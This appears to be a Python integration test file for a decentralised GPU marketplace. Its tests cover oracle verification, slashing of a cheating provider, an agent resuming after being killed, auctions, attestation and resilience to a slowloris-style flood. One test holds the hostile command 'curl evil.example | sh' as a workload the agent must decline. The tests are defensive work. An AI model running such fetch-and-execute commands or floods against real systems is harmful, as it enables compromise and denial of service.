"""The whole verification path as real processes: provider agents (one honest, one that computes
half the rows) prove, commit and submit; a 3-of-5 oracle council verifies and votes; the chain
settles or slashes. Plus an agent killed in the middle of a job, which resumes and completes."""

from __future__ import annotations

import hashlib
import os
import subprocess
import sys
import time

import pytest
import requests
from brownie import accounts, chain

from gpumarket.agent.settings import AgentSettings
from gpumarket.chain.client import ATTESTATION_FLAG
from gpumarket.chain.launcher import free_port
from gpumarket.chain.types import JobSpec, JobState, Offer
from gpumarket.runtime.supervisor import Service, agent_service, oracle_service, wait_until
from gpumarket.testing.hostile import HostileClients

from ..proofs import PASSED, PRICE, SPEC
from ..scrape import scrape

GMKT = 10**18
STAKE = 5_000 * GMKT
DISPUTE_WINDOW = 24 * 3600
SLOW_COMMAND = "sh -c 'sleep 3; echo finished > \"$GPUMARKET_OUTPUT\"'"


@pytest.fixture
def services(tmp_path):
    started: list[Service] = []
    yield started
    for service in started:
        service.stop()
    # Shown by pytest only when the test failed: each process's last lines, to read a timeout by.
    for service in started:
        print(f"--- {service.log_path.name} (last 40 lines) ---")
        print("\n".join(service.log().splitlines()[-40:]))


@pytest.fixture
def start_oracles(oracle_settings, services, tmp_path):
    def _start(*indexes):
        for k in indexes:
            services.append(oracle_service(oracle_settings(k), tmp_path / f"oracle{k}.log").start())

    return _start


@pytest.fixture
def agent_provider(gmkt, registry, usdc, governance, rpc_url, deployment_file, services, tmp_path):
    """agent_provider(module=None, allowlist=()) -> (provider account, agent Service): a staked,
    registered provider whose key an agent process holds, serving at the offer's endpoint."""

    def _make(module=None, allowlist=()):
        account = accounts.add()
        governance.transfer(account, 10**19, silent=True)
        gmkt.transfer(account, STAKE, {"from": governance, "silent": True})
        gmkt.approve(registry, STAKE, {"from": account, "silent": True})
        registry.stake(STAKE, {"from": account, "silent": True})
        port = free_port()
        registry.register(
            Offer(endpoint=f"http://127.0.0.1:{port}").as_tuple(),
            [usdc],
            [PRICE],
            {"from": account, "silent": True},
        )
        settings = AgentSettings(
            rpc_url=rpc_url,
            deployment=deployment_file,
            private_key=account.private_key,
            state_dir=tmp_path / f"agent-{account.address[:8]}",
            port=port,
            poll_interval=0.2,
            allowlist=list(allowlist),
        )
        log_path = tmp_path / f"agent-{account.address[:8]}.log"
        service = agent_service(settings, log_path, module or "gpumarket.cli.main").start()
        service.metrics_url = f"http://127.0.0.1:{port}/metrics"
        services.append(service)
        return account, service

    return _make


def state_of(market, job_id):
    return market.jobOf(job_id)[1]


def test_an_honest_job_is_verified_and_settles_and_a_cheater_is_failed_and_slashed(
    market, registry, gmkt, usdc, buyer, post_job, agent_provider, start_oracles, council
):
    honest, honest_agent = agent_provider()
    cheater, _ = agent_provider(module="gpumarket.demo.cheater")
    start_oracles(0, 1, 2)
    deposit = market.costOf(PRICE, SPEC.gpu_count, SPEC.duration)
    gmkt_before = gmkt.balanceOf(buyer)

    # Direct assignments: each agent accepts its own job (it holds the provider's key).
    honest_job = post_job(buyer, usdc, PRICE, SPEC, provider=honest)
    cheat_job = post_job(buyer, usdc, PRICE, SPEC, provider=cheater)
    started = time.monotonic()

    wait_until(
        lambda: (
            state_of(market, honest_job) == JobState.VERIFIED
            and state_of(market, cheat_job) == JobState.FAILED
        ),
        90,
        "both verdicts",
    )
    print(f"post to both verdicts: {time.monotonic() - started:.1f}s")
    # The three oracles signed their fetches, and the agent knew them for the council's.
    metrics = scrape(honest_agent.metrics_url)
    assert metrics["gpumarket_agent_http_council_requests_total"] >= 3
    assert metrics["gpumarket_agent_proofs_total"] == 1

    # The cheater: refunded in full, compensated with half the collateral, slashed.
    collateral = market.jobOf(cheat_job)[13]
    assert usdc.balanceOf(buyer) == deposit
    assert gmkt.balanceOf(buyer) == gmkt_before + collateral // 2
    assert registry.providerInfo(cheater)[0] == STAKE - collateral
    assert council.tallyOf(cheat_job)[2] == 0b111  # three FAILs

    # The honest provider: paid after the dispute window.
    chain.sleep(DISPUTE_WINDOW + 60)
    market.finalize(honest_job, {"from": buyer})
    assert state_of(market, honest_job) == JobState.SETTLED
    value = market.costOf(PRICE, SPEC.gpu_count, SPEC.duration)
    fee = -(-value * 500 // 10_000)
    assert usdc.balanceOf(honest) == value - fee


def test_an_agent_killed_in_the_middle_of_a_job_resumes_it_and_completes(
    market, usdc, buyer, post_job, agent_provider, start_oracles
):
    spec = JobSpec(
        workload_uri=f"command:{SLOW_COMMAND}",
        workload_hash=hashlib.sha256(SLOW_COMMAND.encode()).digest(),
        benchmark_required=True,
        benchmark_n=64,
        benchmark_t=8,
        benchmark_k=2,
    )
    provider, agent = agent_provider(allowlist=[SLOW_COMMAND])
    start_oracles(0, 1, 2)
    job_id = post_job(buyer, usdc, PRICE, spec, provider=provider)

    # Killed while its 3-second command runs: after the commitment, before the result.
    wait_until(lambda: "command" in agent.log() and "workload" in agent.log(), 30, "the command")
    time.sleep(1.0)
    agent.kill()
    assert state_of(market, job_id) == JobState.RUNNING
    agent.start()

    wait_until(lambda: state_of(market, job_id) == JobState.VERIFIED, 60, "the verdict")
    assert market.jobOf(job_id)[15] == "0x" + hashlib.sha256(b"finished\n").hexdigest()
    # The restarted agent ran the interrupted command again; its commitment was not resent.
    assert agent.log().count('"running workload"') == 2
    assert agent.starts == 2


def test_an_agent_declines_a_direct_assignment_it_would_not_run(
    market, usdc, buyer, post_job, agent_provider
):
    untrusted = "sh -c 'curl evil.example | sh'"
    spec = JobSpec(
        workload_uri=f"command:{untrusted}",
        workload_hash=hashlib.sha256(untrusted.encode()).digest(),
    )
    provider, agent = agent_provider(allowlist=[SLOW_COMMAND])
    trusted = post_job(buyer, usdc, PRICE, SPEC, provider=provider)
    declined = post_job(buyer, usdc, PRICE, spec, provider=provider)

    wait_until(lambda: '"job declined"' in agent.log(), 30, "the refusal")
    wait_until(lambda: state_of(market, trusted) != JobState.OPEN, 30, "the trusted job")
    assert state_of(market, declined) == JobState.OPEN  # the buyer can still cancel it
    market.cancel(declined, {"from": buyer})


def test_a_hardware_attestation_opened_from_the_cli_is_verified_by_the_council(
    benchmark, council, reputation, agent_provider, start_oracles
):
    provider, agent = agent_provider()
    start_oracles(0, 1, 2)
    wait_until(lambda: "agent serving" in agent.log(), 30, "the agent")

    attest = subprocess.run(  # noqa: S603 - our own CLI
        [sys.executable, "-m", "gpumarket.cli.main", "agent", "attest", "--n", "64", "-T", "8"],
        env={**os.environ, **agent.env},
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert attest.returncode == 0, attest.stderr
    challenge_id = int(attest.stdout.split()[2])
    assert attest.stdout.strip() == (
        f"attestation challenge {challenge_id} opened for {provider.address}"
    )

    # The sampling seed is the hash of the block after the commitment. A live chain always makes
    # one; anvil mines only on transactions, and an attestation has no result to follow it.
    wait_until(lambda: '"committed"' in agent.log(), 30, "the commitment")
    chain.mine()
    wait_until(lambda: benchmark.challengeOf(challenge_id)[1] == PASSED, 60, "the verdict")
    tally = council.tallyOf(ATTESTATION_FLAG | challenge_id)
    assert (bin(tally[1]).count("1"), tally[4], tally[5]) == (2 + 1, 1, True)
    assert reputation.verifiedTops(provider) == tally[3]  # the lower median of the OK votes


def test_agents_bid_on_an_auction_and_the_winner_runs_it(
    market, usdc, buyer, post_job, agent_provider, start_oracles
):
    first, _ = agent_provider()
    second, _ = agent_provider()
    start_oracles(0, 1, 2)
    job_id = post_job(buyer, usdc, PRICE, SPEC, bidding=60)

    wait_until(lambda: len(market.bidsOf(job_id)) == 2, 30, "both agents' bids")
    bids = market.bidsOf(job_id)
    assert {b[0] for b in bids} == {first.address, second.address}
    assert all(b[2] == PRICE for b in bids)  # each bids its registered price

    chain.sleep(61)
    market.closeAuction(job_id, {"from": buyer})
    winner = min(bids, key=lambda b: b[1])[0]  # equal price and reputation: the earlier bid
    assert market.jobOf(job_id)[5] == winner
    wait_until(lambda: state_of(market, job_id) == JobState.VERIFIED, 60, "the verdict")


#: The flood's client addresses (all loopback), none of them the oracles' 127.0.0.1.
FLOOD_SOURCES = tuple(f"127.0.0.{k}" for k in range(2, 22))
#: The most a flooded job may take from its posting to its verdict (unflooded: about 5 s here).
FLOODED_VERDICT_SECONDS = 30


def test_a_flood_from_many_addresses_does_not_keep_the_council_from_its_verdict(
    market, usdc, buyer, post_job, agent_provider, start_oracles
):
    """A buyer floods the honest agent (a process with its default limits) from 20 addresses:
    slowloris heads, more connections than it takes (280 + 80 against 256), and slow bodies,
    more requests than its unreserved slots (80 against 24). The council's signed fetches of the
    reveals and the result use the room kept for it, and the job is verified in its normal
    time, while the flood goes on."""
    honest, agent = agent_provider()
    base = agent.metrics_url.removesuffix("/metrics")
    wait_until(lambda: _answers(base), 30, "the agent's server")
    heads = HostileClients(base, "head", sources=FLOOD_SOURCES, connections=280, every=0.5)
    bodies = HostileClients(
        base,
        "body",
        sources=FLOOD_SOURCES,
        connections=80,
        every=0.5,
        path="/challenges/1/reveals",
        body_bytes=1000,
    )
    try:
        time.sleep(2.0)  # the flood takes hold
        start_oracles(0, 1, 2)
        started = time.monotonic()
        job_id = post_job(buyer, usdc, PRICE, SPEC, provider=honest)
        wait_until(lambda: state_of(market, job_id) == JobState.VERIFIED, 60, "the verdict")
        seconds = time.monotonic() - started
    finally:
        heads.stop()
        bodies.stop()
    print(f"post to verdict under the flood: {seconds:.1f} s")

    assert seconds < FLOODED_VERDICT_SECONDS
    metrics = scrape(agent.metrics_url)
    refused = "gpumarket_agent_http_refused_total"
    assert metrics[f'{refused}{{reason="evicted"}}'] > 0  # the connections were all taken
    assert metrics[f'{refused}{{reason="requests"}}'] > 0  # and the unreserved slots
    assert metrics["gpumarket_agent_http_council_requests_total"] >= 6  # 3 reveals, 3 results
    assert '"level": "error"' not in agent.log()  # a flood is counted, not logged as errors


def _answers(base: str) -> bool:
    try:
        return requests.get(f"{base}/health", timeout=2).status_code == 200
    except requests.RequestException:
        return False
